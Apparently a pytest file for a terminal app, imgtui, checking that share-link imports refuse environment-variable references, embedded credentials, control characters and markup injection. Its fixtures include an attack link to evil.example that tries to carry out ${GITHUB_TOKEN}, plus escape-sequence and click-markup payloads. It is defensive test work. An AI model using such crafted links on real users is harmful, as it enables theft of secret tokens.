"""Share links come from strangers (issue 10, item 1): importing one (CLI, settings, paste)
never creates a `${VAR}` reference, never keeps `user:pass@` in an address, warns when a
key would travel over plain http:// to another machine, never sends a saved profile's key
or headers to a server the link moves it to, and never makes a profile active unsaid."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from textual.content import Content
from textual.widgets import Input

from imgtui import config as cfg
from imgtui.cli import main
from imgtui.config import Config, Profile, Settings, ShareUrlError, read_share_link
from imgtui.tui.notices import NoticeLog
from imgtui.tui.screens.import_link import ImportLinkScreen
from imgtui.tui.screens.settings import SettingsScreen

TOKEN = "ghp_STOLEN0123456789abcdefghijklmnopqrst"
ATTACK = "https://evil.example/?apiUrl=http%3A%2F%2Fevil.example%2Fv1&apiKey=%24%7BGITHUB_TOKEN%7D&profileName=Free"


@pytest.mark.parametrize(
    "key",
    ["${GITHUB_TOKEN}", "${OPENAI_API_KEY}", "${", "${GITHUB_TOKEN", "$GITHUB_TOKEN", "x${HOME}y"],
)
def test_a_link_never_creates_an_environment_reference(key: str) -> None:
    link = f"apiUrl=https://relay.example/v1&apiKey={quote(key)}"
    with pytest.raises(ShareUrlError, match="environment reference"):
        read_share_link(link)


def test_the_attack_link_cannot_send_a_variable_anywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    with pytest.raises(ShareUrlError, match="environment reference"):
        cfg.profile_from_share_url(ATTACK)


def test_settings_json_cannot_smuggle_a_reference_either() -> None:
    block = '{"profiles":[{"name":"Free","baseUrl":"https://evil.example/v1","apiKey":"${GITHUB_TOKEN}"}]}'
    with pytest.raises(ShareUrlError, match="environment reference"):
        read_share_link("settings=" + quote(block))


@pytest.mark.parametrize(
    "api_url",
    [
        "https://user:pass@relay.example/v1",
        "https://user@relay.example/v1",
        "user:pw@relay.example",
    ],
)
def test_credentials_in_the_address_are_refused(api_url: str) -> None:
    with pytest.raises(ShareUrlError, match="user:password@"):
        read_share_link("apiUrl=" + quote(api_url, safe=""))


def test_a_profile_cannot_hold_credentials_in_its_address_so_no_export_carries_them() -> None:
    profile = Profile("P", "https://user:pass@relay.example/v1")
    assert "user:password@" in profile.errors()["base_url"]
    with pytest.raises(ShareUrlError, match="user:password@"):
        cfg.profile_to_share_url(profile)


@pytest.mark.parametrize(
    ("api_url", "warned"),
    [
        ("http://relay.example/v1", True),
        ("http://192.168.1.20:8080/v1", True),
        ("https://relay.example/v1", False),
        ("http://127.0.0.1:8080/v1", False),
        ("http://localhost:8080/v1", False),
        ("http://[::1]:8080/v1", False),
    ],
)
def test_a_key_for_plain_http_to_another_machine_is_warned_about(
    api_url: str, warned: bool
) -> None:
    with_key = read_share_link(f"apiUrl={quote(api_url, safe='')}&apiKey=sk-shared-1234567890")
    assert any("plain http://" in w for w in with_key.warnings) is warned
    without_key = read_share_link(f"apiUrl={quote(api_url, safe='')}")
    assert without_key.warnings == []


def test_a_link_moving_a_saved_profile_elsewhere_drops_its_key_and_headers() -> None:
    saved = Profile(
        "Mine",
        "https://api.openai.com/v1",
        api_key="${OPENAI_API_KEY}",
        headers={"OpenAI-Organization": "${ORG}"},
        profile_id="mine-1",
    )
    plan = read_share_link("profileId=mine-1&apiUrl=https%3A%2F%2Fevil.example%2Fv1", [saved])
    (moved,) = plan.profiles
    assert plan.replaces == ["Mine"]
    assert (moved.base_url, moved.api_key, moved.headers) == ("https://evil.example/v1", "", {})
    assert any("another server" in w for w in plan.warnings)
    # the same server: the user's own key reference stays
    same = read_share_link("profileId=mine-1&model=gpt-image-2", [saved]).profiles[0]
    assert (same.api_key, same.model) == ("${OPENAI_API_KEY}", "gpt-image-2")


def test_control_characters_from_a_link_are_refused() -> None:
    with pytest.raises(ShareUrlError, match="profileName: must not contain control characters"):
        read_share_link("apiUrl=https://relay.example/v1&profileName=" + quote("a\x1b]0;pwned\x07"))


# -- the CLI ---------------------------------------------------------------------------------


def test_cli_import_refuses_the_attack_and_stores_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    assert main(["profiles", "import", ATTACK]) == 2
    err = capsys.readouterr().err
    assert "environment reference" in err and TOKEN not in err
    assert not cfg.config_path().exists()


def test_cli_import_warns_about_plain_http_and_leaves_the_active_profile(
    capsys: pytest.CaptureFixture[str],
) -> None:
    config = Config(
        path=cfg.config_path(),
        profiles=[Profile("Mine", "https://api.openai.com/v1")],
        settings=Settings(active_profile="Mine"),
    )
    cfg.save(config)
    link = "apiUrl=http%3A%2F%2Frelay.example%2Fv1&apiKey=sk-shared-1234567890&profileName=Relay"
    assert main(["profiles", "import", link]) == 0
    out, err = capsys.readouterr()
    assert "plain http://" in err and "sk-shared" not in err + out
    assert "active profile is unchanged" in out
    loaded = cfg.load()
    assert loaded.settings.active_profile == "Mine"
    assert loaded.get("Relay") is not None


# -- the settings screen ---------------------------------------------------------------------


class Host(NoticeLog):
    def __init__(self, screen: SettingsScreen) -> None:
        super().__init__()
        self.settings_screen = screen

    def on_mount(self) -> None:
        self.push_screen(self.settings_screen)


async def test_settings_import_does_not_make_the_profile_active_unsaid(tmp_path: Path) -> None:
    config = Config(
        path=tmp_path / "config.toml",
        profiles=[Profile("Mine", "https://api.openai.com/v1")],
        settings=Settings(active_profile="Mine"),
    )
    cfg.save(config)
    app = Host(SettingsScreen(config))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await pilot.press("ctrl+l")
        await pilot.pause()
        modal = app.screen
        assert isinstance(modal, ImportLinkScreen)
        modal.query_one(
            "#import-url", Input
        ).value = (
            "apiUrl=http%3A%2F%2Frelay.example%2Fv1&apiKey=sk-shared-1234567890&profileName=Relay"
        )
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        messages = [n.message for n in app.notices]
    assert cfg.load(config.path).settings.active_profile == "Mine"
    assert config.settings.active_profile == "Mine"
    assert any("active profile is unchanged" in m for m in messages)
    assert any("plain http://" in m for m in messages)


async def test_settings_import_of_an_attack_link_keeps_the_modal_open(tmp_path: Path) -> None:
    config = Config(path=tmp_path / "config.toml", profiles=[], settings=Settings())
    cfg.save(config)
    before = config.path.read_bytes()
    app = Host(SettingsScreen(config))
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("ctrl+l")
        await pilot.pause()
        modal = app.screen
        assert isinstance(modal, ImportLinkScreen)
        modal.query_one("#import-url", Input).value = ATTACK
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        assert app.screen is modal
    assert config.path.read_bytes() == before


def test_exports_never_carry_a_reference_or_the_key_unasked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RELAY_KEY", "sk-resolved-0123456789")
    profile = Profile("R", "https://relay.example/v1", api_key="${RELAY_KEY}")
    plain = cfg.profile_to_share_url(profile)
    assert "apiKey" not in parse_qs(urlsplit(plain).query)
    with_key = parse_qs(urlsplit(cfg.profile_to_share_url(profile, include_key=True)).query)
    assert with_key["apiKey"] == ["sk-resolved-0123456789"]


async def test_markup_in_a_linked_name_is_shown_as_text_not_run(tmp_path: Path) -> None:
    config = Config(path=tmp_path / "config.toml", profiles=[], settings=Settings())
    cfg.save(config)
    hostile = "[@click=app.quit]Free[/] [b]x"
    app = Host(SettingsScreen(config))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await pilot.press("ctrl+l")
        await pilot.pause()
        modal = app.screen
        assert isinstance(modal, ImportLinkScreen)
        modal.query_one("#import-url", Input).value = (
            "apiUrl=https%3A%2F%2Frelay.example%2Fv1&profileName=" + quote(hostile)
        )
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, SettingsScreen)
        assert screen.editing == hostile
        # the title holds the name as escaped text: shown as typed, never run as markup
        assert screen.form.border_title == Content(f"Edit · {hostile}").markup
        assert any(hostile in n.message and not n.markup for n in app.notices)
        assert app.is_running
    assert cfg.load(config.path).get(hostile) is not None
